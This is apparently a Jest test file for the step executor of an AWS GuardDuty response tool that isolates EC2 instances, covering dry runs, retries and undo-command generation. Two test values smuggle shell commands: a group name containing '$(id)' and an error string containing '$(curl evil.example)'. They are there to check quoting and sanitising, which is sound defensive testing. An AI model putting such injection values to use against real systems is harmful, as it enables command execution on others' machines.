import 'aws-sdk-client-mock-jest';
import { AutoScalingClient, DetachInstancesCommand } from '@aws-sdk/client-auto-scaling';
import {
  AuthorizeSecurityGroupIngressCommand,
  CreateSecurityGroupCommand,
  DescribeSecurityGroupsCommand,
  EC2Client,
  EC2ServiceException,
  ModifyNetworkInterfaceAttributeCommand,
  RevokeSecurityGroupEgressCommand,
  RevokeSecurityGroupIngressCommand,
} from '@aws-sdk/client-ec2';
import { mockClient } from 'aws-sdk-client-mock';
import { parse } from 'shell-quote';
import { isolationSteps, planIsolation } from '../../lambdas/isolate/plan';
import { ExecutionContext, PROPAGATION_PAUSES_MS, Step, THROTTLING_PAUSES_MS, changeLine, executeSteps, failedStepsText, lostRace, undoLines } from '../../lambdas/shared/steps';
import { previousGroupsTag } from '../../core/tags';
import { MOVE_RESERVE_MS } from '../../core/timing';
import { testInstance } from '../support/instances';

const ec2 = mockClient(EC2Client);
const autoScaling = mockClient(AutoScalingClient);
const context = (dryRun = false): ExecutionContext => ({
  ec2: new EC2Client({ region: 'eu-west-1' }),
  autoScaling: () => new AutoScalingClient({ region: 'eu-west-1' }),
  dryRun,
  remainingMs: () => Number.POSITIVE_INFINITY,
  groups: new Map(),
});

describe('Steps: one executor for every remediation', () => {
  beforeEach(() => {
    ec2.reset();
    autoScaling.reset();
  });

  it('runs steps in order, stops at the first failure, and records what ran', async () => {
    ec2.on(AuthorizeSecurityGroupIngressCommand).rejects(Object.assign(new Error('limit'), { name: 'RulesPerSecurityGroupLimitExceeded' }));
    const steps: Step[] = [
      { kind: 'authorize-ingress', group: { id: 'sg-1' }, label: 'tcp 0-21 from 0.0.0.0/0', permissions: [{ IpProtocol: 'tcp', FromPort: 0, ToPort: 21 }] },
      { kind: 'revoke-ingress', group: { id: 'sg-1' }, label: 'tcp 0-65535 from 0.0.0.0/0', permissions: [{ IpProtocol: 'tcp', FromPort: 0, ToPort: 65535 }] },
    ];
    const executed = await executeSteps(steps, context());
    expect(executed.map((e) => e.status)).toEqual(['failed']);
    expect(ec2.commandCalls(RevokeSecurityGroupIngressCommand)).toHaveLength(0);
    // A quota refusal says which quota, and what to do: no retry changes it.
    expect(changeLine(executed[0])).toBe(
      'FAILED to allow tcp 0-21 from 0.0.0.0/0: RulesPerSecurityGroupLimitExceeded: limit (the group is at its quota of rules, "Inbound or outbound rules per security group": 60 by default, counted apart for IPv4 and IPv6, a prefix list counting as its maximum entries. Remove rules or raise the quota; the next delivery of the finding tries again)',
    );
    expect(changeLine({ ...executed[0], error: 'UnauthorizedOperation: denied' })).toBe('FAILED to allow tcp 0-21 from 0.0.0.0/0: UnauthorizedOperation: denied');
  });

  it('in a dry run: DryRun on every EC2 call, a group still to create is reported not tried, and Auto Scaling is not called', async () => {
    ec2.on(CreateSecurityGroupCommand).rejects(new EC2ServiceException({ name: 'DryRunOperation', $fault: 'client', message: 'would have succeeded', $metadata: {} }));
    const steps: Step[] = [
      { kind: 'create-group', role: 'isolation', name: 'guardduty-response-isolation', fallbackName: 'guardduty-response-isolation-0a1b2c3d', vpcId: 'vpc-1', description: 'd', tags: [] },
      { kind: 'move-isolation', interfaceId: 'eni-1', to: [{ created: 'isolation' }], previousGroups: ['sg-web'] },
      { kind: 'detach', instanceId: 'i-1', autoScalingGroupName: 'web' },
    ];
    const executed = await executeSteps(steps, context(true));
    expect(executed.map((e) => e.status)).toEqual(['would', 'would', 'would']);
    expect(ec2.commandCalls(CreateSecurityGroupCommand)[0].args[0].input.DryRun).toBe(true);
    expect(ec2.commandCalls(ModifyNetworkInterfaceAttributeCommand)).toHaveLength(0);
    expect(autoScaling.commandCalls(DetachInstancesCommand)).toHaveLength(0);
    expect(executed.map(changeLine)[2]).toMatch(/^would have: detach from Auto Scaling group "web"/);
  });

  describe("a group name held by a group that is not the stack's", () => {
    const create: Step = {
      kind: 'create-group',
      role: 'isolation',
      name: 'guardduty-response-isolation',
      fallbackName: 'guardduty-response-isolation-0a1b2c3d',
      vpcId: 'vpc-1',
      description: 'd',
      tags: [{ Key: 'guardduty-response:isolation', Value: 'isolation' }],
    };
    const duplicate = () => new EC2ServiceException({ name: 'InvalidGroup.Duplicate', $fault: 'client', message: "The security group 'guardduty-response-isolation' already exists for VPC 'vpc-1'", $metadata: {} });
    const holder = (tags: { Key: string; Value: string }[]) => ec2.on(DescribeSecurityGroupsCommand).resolves({ SecurityGroups: [{ GroupId: 'sg-0squat0000000000a', GroupName: 'guardduty-response-isolation', Tags: tags }] });

    it('creates the group under its fallback name when the holder has no role tag, and says so', async () => {
      ec2.on(CreateSecurityGroupCommand, { GroupName: 'guardduty-response-isolation' }).rejects(duplicate());
      ec2.on(CreateSecurityGroupCommand, { GroupName: 'guardduty-response-isolation-0a1b2c3d' }).resolves({ GroupId: 'sg-ours' });
      holder([{ Key: 'Name', Value: 'mine' }]);
      const ctx = context();
      const executed = await executeSteps([create], ctx);
      expect(executed.map((e) => e.status)).toEqual(['done']);
      expect(ctx.groups.get('isolation')).toBe('sg-ours');
      expect(ec2).toHaveReceivedCommandWith(DescribeSecurityGroupsCommand, { Filters: [{ Name: 'vpc-id', Values: ['vpc-1'] }, { Name: 'group-name', Values: ['guardduty-response-isolation'] }] });
      expect(ec2).toHaveReceivedCommandWith(CreateSecurityGroupCommand, { GroupName: 'guardduty-response-isolation-0a1b2c3d', TagSpecifications: [{ ResourceType: 'security-group', Tags: [create.tags[0]] }] });
      expect(changeLine(executed[0])).toBe(
        'create the isolation group guardduty-response-isolation in vpc-1 (the name guardduty-response-isolation is held by sg-0squat0000000000a, which has no guardduty-response:isolation tag: not this stack\'s group, so neither used nor changed; created as guardduty-response-isolation-0a1b2c3d)',
      );
      expect(lostRace(executed)).toBe(false);
    });

    it("treats a holder with the role tag as a concurrent delivery's group: a lost race, nothing created", async () => {
      ec2.on(CreateSecurityGroupCommand).rejects(duplicate());
      holder([{ Key: 'guardduty-response:isolation', Value: 'isolation' }]);
      const executed = await executeSteps([create], context());
      expect(executed.map((e) => e.status)).toEqual(['failed']);
      expect(lostRace(executed)).toBe(true);
      expect(ec2.commandCalls(CreateSecurityGroupCommand)).toHaveLength(1);
    });

    it('in a dry run, says it would create the group under its fallback name', async () => {
      ec2.on(CreateSecurityGroupCommand, { GroupName: 'guardduty-response-isolation' }).rejects(duplicate());
      ec2.on(CreateSecurityGroupCommand, { GroupName: 'guardduty-response-isolation-0a1b2c3d' }).rejects(new EC2ServiceException({ name: 'DryRunOperation', $fault: 'client', message: 'would have succeeded', $metadata: {} }));
      holder([]);
      const [executed] = await executeSteps([create], context(true));
      expect(executed.status).toBe('would');
      expect(changeLine(executed)).toMatch(/^would have: create the isolation group .*; it would be created as guardduty-response-isolation-0a1b2c3d\)$/);
    });
  });

  /** Runs the steps with jest's clock, moving it on while they wait; the pauses they waited, in ms. */
  async function executeWithClock(steps: readonly Step[], remainingMs = () => Number.POSITIVE_INFINITY) {
    jest.useFakeTimers();
    const started = Date.now();
    try {
      const running = executeSteps(steps, { ...context(), remainingMs });
      let executed: Awaited<typeof running> | undefined;
      void running.then((e) => (executed = e));
      while (!executed) await jest.advanceTimersByTimeAsync(500);
      return { executed, waitedMs: Date.now() - started };
    } finally {
      jest.useRealTimers();
    }
  }

  describe('a group created moments ago that EC2 does not know yet (eventual consistency)', () => {
    const notFound = () => new EC2ServiceException({ name: 'InvalidGroup.NotFound', $fault: 'client', message: "The security group 'sg-new' does not exist", $metadata: {} });
    const isolation: Step[] = [
      { kind: 'create-group', role: 'isolation', name: 'guardduty-response-isolation', fallbackName: 'guardduty-response-isolation-0a1b2c3d', vpcId: 'vpc-1', description: 'd', tags: [] },
      { kind: 'revoke-egress', group: { created: 'isolation' }, label: 'the default egress rule', permissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] },
      { kind: 'move-isolation', interfaceId: 'eni-1', to: [{ created: 'isolation' }], previousGroups: ['sg-web'] },
    ];
    beforeEach(() => {
      ec2.on(CreateSecurityGroupCommand).resolves({ GroupId: 'sg-new' });
      ec2.on(ModifyNetworkInterfaceAttributeCommand).resolves({});
    });

    it('tries the next call on it again after 1, 2, 4 s... (AWS: exponential backoff) until EC2 knows it', async () => {
      ec2.on(RevokeSecurityGroupEgressCommand).rejectsOnce(notFound()).rejectsOnce(notFound()).resolves({ Return: true });
      const { executed, waitedMs } = await executeWithClock(isolation);
      expect(executed.map((e) => e.status)).toEqual(['done', 'done', 'done']);
      expect(ec2.commandCalls(RevokeSecurityGroupEgressCommand).map((c) => c.args[0].input.GroupId)).toEqual(['sg-new', 'sg-new', 'sg-new']);
      expect(waitedMs).toBeGreaterThanOrEqual(PROPAGATION_PAUSES_MS[0] + PROPAGATION_PAUSES_MS[1]);
      expect(waitedMs).toBeLessThan(PROPAGATION_PAUSES_MS[0] + PROPAGATION_PAUSES_MS[1] + PROPAGATION_PAUSES_MS[2]);
    });

    it('fails the step, as before, when EC2 still does not know it after the last pause', async () => {
      ec2.on(RevokeSecurityGroupEgressCommand).rejects(notFound());
      const { executed } = await executeWithClock(isolation);
      expect(executed.map((e) => e.status)).toEqual(['done', 'failed']);
      expect(ec2.commandCalls(RevokeSecurityGroupEgressCommand)).toHaveLength(PROPAGATION_PAUSES_MS.length + 1);
      expect(ec2.commandCalls(ModifyNetworkInterfaceAttributeCommand)).toHaveLength(0);
    });

    it('does not wait when the invocation has no time for it: the next delivery resumes', async () => {
      ec2.on(RevokeSecurityGroupEgressCommand).rejectsOnce(notFound()).resolves({ Return: true });
      // A pause of 1 s would leave less than the time a move and a move back need.
      const { executed } = await executeWithClock(isolation, () => MOVE_RESERVE_MS + 500);
      expect(executed.map((e) => e.status)).toEqual(['done', 'failed']);
      expect(ec2.commandCalls(RevokeSecurityGroupEgressCommand)).toHaveLength(1);
    });

    it('never waits for a group that existed before: NotFound there means it is gone', async () => {
      ec2.on(RevokeSecurityGroupIngressCommand).rejects(notFound());
      const { executed } = await executeWithClock([{ kind: 'revoke-ingress', group: { id: 'sg-old' }, label: 'tcp 22 from 0.0.0.0/0', permissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22 }] }]);
      expect(executed.map((e) => e.status)).toEqual(['failed']);
      expect(ec2.commandCalls(RevokeSecurityGroupIngressCommand)).toHaveLength(1);
    });
  });

  describe('a step still throttled after the SDK\'s attempts', () => {
    const throttled = () => new EC2ServiceException({ name: 'RequestLimitExceeded', $fault: 'client', message: 'Request limit exceeded.', $metadata: {} });
    const move: Step = { kind: 'move-isolation', interfaceId: 'eni-1', to: [{ id: 'sg-i' }], previousGroups: ['sg-web'] };

    it('is tried again after 5, 10 s... while the invocation has the time: a throttled call changed nothing', async () => {
      ec2.on(ModifyNetworkInterfaceAttributeCommand).rejectsOnce(throttled()).rejectsOnce(throttled()).resolves({});
      const { executed, waitedMs } = await executeWithClock([move]);
      expect(executed.map((e) => e.status)).toEqual(['done']);
      expect(ec2.commandCalls(ModifyNetworkInterfaceAttributeCommand)).toHaveLength(3);
      expect(waitedMs).toBeGreaterThanOrEqual(THROTTLING_PAUSES_MS[0] + THROTTLING_PAUSES_MS[1]);
      expect(waitedMs).toBeLessThan(THROTTLING_PAUSES_MS[0] + THROTTLING_PAUSES_MS[1] + THROTTLING_PAUSES_MS[2]);
    });

    it("is tried again on Auto Scaling's throttling code too, and fails after the last pause", async () => {
      autoScaling.on(DetachInstancesCommand).rejects(Object.assign(new Error('Rate exceeded'), { name: 'Throttling' }));
      const { executed } = await executeWithClock([{ kind: 'detach', instanceId: 'i-1', autoScalingGroupName: 'web' }]);
      expect(executed.map((e) => [e.status, e.error])).toEqual([['failed', 'Throttling: Rate exceeded']]);
      expect(autoScaling.commandCalls(DetachInstancesCommand)).toHaveLength(THROTTLING_PAUSES_MS.length + 1);
    });

    it('fails at once when a pause would leave less than the time the moves reserve', async () => {
      ec2.on(ModifyNetworkInterfaceAttributeCommand).rejectsOnce(throttled()).resolves({});
      const { executed } = await executeWithClock([move], () => MOVE_RESERVE_MS + THROTTLING_PAUSES_MS[0] - 1);
      expect(executed.map((e) => e.status)).toEqual(['failed']);
      expect(ec2.commandCalls(ModifyNetworkInterfaceAttributeCommand)).toHaveLength(1);
    });

    it('is not tried again for an error that time does not cure', async () => {
      ec2.on(ModifyNetworkInterfaceAttributeCommand).rejects(new EC2ServiceException({ name: 'UnauthorizedOperation', $fault: 'client', message: 'denied', $metadata: {} }));
      const { executed } = await executeWithClock([move]);
      expect(executed.map((e) => e.status)).toEqual(['failed']);
      expect(ec2.commandCalls(ModifyNetworkInterfaceAttributeCommand)).toHaveLength(1);
    });
  });

  it('writes the undo of the done steps newest first, each once, every argument quoted', async () => {
    const steps: Step[] = [
      { kind: 'record', instanceId: 'i-1', tags: [{ Key: previousGroupsTag('eni-1'), Value: 'sg-web' }], undoTagKeys: [previousGroupsTag('eni-1')] },
      { kind: 'move-untracked', interfaceId: 'eni-1', to: [{ id: 'sg-u' }], previousGroups: ['sg-web'] },
      { kind: 'move-isolation', interfaceId: 'eni-1', to: [{ id: 'sg-i' }], previousGroups: ['sg-web'] },
      { kind: 'detach', instanceId: 'i-1', autoScalingGroupName: "web;$(id)'" },
    ];
    const lines = undoLines(await executeSteps(steps, context()), 'eu-west-1');
    expect(lines.filter((l) => !l.startsWith('#')).map((l) => parse(l))).toEqual([
      ['aws', 'autoscaling', 'attach-instances', '--region', 'eu-west-1', '--instance-ids', 'i-1', '--auto-scaling-group-name', "web;$(id)'"],
      ['aws', 'ec2', 'modify-network-interface-attribute', '--region', 'eu-west-1', '--network-interface-id', 'eni-1', '--groups', 'sg-web'],
      ['aws', 'ec2', 'delete-tags', '--region', 'eu-west-1', '--resources', 'i-1', '--tags', `Key=${previousGroupsTag('eni-1')}`],
    ]);
  });

  it("names each failed step with its error's name for the invocation's error, never the error's text", () => {
    const snapshot = (volumeId: string): Step => ({ kind: 'snapshot', instanceId: 'i-1', volumeId, tags: [] });
    expect(
      failedStepsText([
        { step: snapshot('vol-a'), status: 'failed', error: 'RequestLimitExceeded: Request limit exceeded.' },
        { step: snapshot('vol-b'), status: 'done' },
        { step: snapshot('vol-c'), status: 'failed', error: 'socket hang up: $(curl evil.example)' },
        { step: snapshot('vol-d'), status: 'failed' },
      ]),
    ).toBe('snapshot vol-a (RequestLimitExceeded); snapshot vol-c; snapshot vol-d');
  });

  it('plans a resumed isolation as data: an interface already in the untracked group only moves on', () => {
    const plan = planIsolation({
      instance: testInstance({ Tags: [{ Key: previousGroupsTag('eni-a'), Value: 'sg-web' }], NetworkInterfaces: [{ NetworkInterfaceId: 'eni-a', Groups: [{ GroupId: 'sg-u' }] }] }),
      vpcGroups: [
        { GroupId: 'sg-u', IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] }], IpPermissionsEgress: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] }], Tags: [{ Key: 'guardduty-response:isolation', Value: 'untracked' }] },
        { GroupId: 'sg-i', IpPermissions: [], IpPermissionsEgress: [], Tags: [{ Key: 'guardduty-response:isolation', Value: 'isolation' }] },
      ],
      exclusionTag: 'x',
      snapshots: false,
      findingId: 'f',
      now: 'T',
      terminationProtected: true,
      snapshotted: [],
    });
    if (plan.status !== 'isolate') throw new Error(`unexpected ${plan.status}`);
    expect(isolationSteps(plan, 'i-1', 1000).map((s) => s.kind)).toEqual(['record', 'time-check', 'move-isolation']);
  });
});
